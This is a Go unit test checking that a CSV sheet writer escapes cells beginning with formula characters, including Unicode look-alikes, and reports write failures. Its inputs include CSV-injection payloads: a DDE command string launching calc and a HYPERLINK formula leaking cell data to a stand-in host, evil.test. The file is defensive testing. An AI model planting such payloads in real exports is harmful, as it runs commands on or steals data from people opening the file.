package models_test

import (
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"throughline/models"
)

func TestNoCellOfASheetIsAFormula(t *testing.T) {
	t.Parallel()
	var hostile []string
	for _, begin := range []string{"=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "−", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u3000=", "\u200b=", "\ufeff=", "\x00=", `"=`, "'=", "\t", "\r", "  ＝"} {
		for _, rest := range []string{`cmd|' /C calc'!A0`, `HYPERLINK("https://evil.test?"&A1)`, "1+1", ""} {
			hostile = append(hostile, begin+rest)
		}
	}
	harmless := []string{"", "Zephyrine", "O'Neill", "a=b", "07700 900123", "3 - 4", `"quoted"`, "line\nbreak", "é", "1;=2", "'"}
	var out strings.Builder
	s := models.NewSheet(&out)
	for _, cell := range append(hostile, harmless...) {
		s.Row(cell, "end")
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil || len(rows) != len(hostile)+len(harmless) {
		t.Fatalf("got %d rows and %v", len(rows), err)
	}
	for i, cell := range append(hostile, harmless...) {
		want := strings.ReplaceAll(cell, "\r\n", "\n")
		if i < len(hostile) {
			want = "'" + want
		}
		if got := rows[i][0]; got != want || rows[i][1] != "end" {
			t.Errorf("%q: got %q, want %q", cell, rows[i], want)
		}
	}
	if got, want := out.String()[strings.LastIndex(out.String(), `"'",`):], "\"'\",\"end\"\r\n"; got != want {
		t.Error(cmp.Diff(want, got))
	}
}

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errors.New("the disk is full") }

func TestASheetThatCannotBeWrittenSaysSo(t *testing.T) {
	t.Parallel()
	s := models.NewSheet(full{})
	s.Row("a")
	if err := s.Close(); err == nil {
		t.Error("got no error")
	}
}
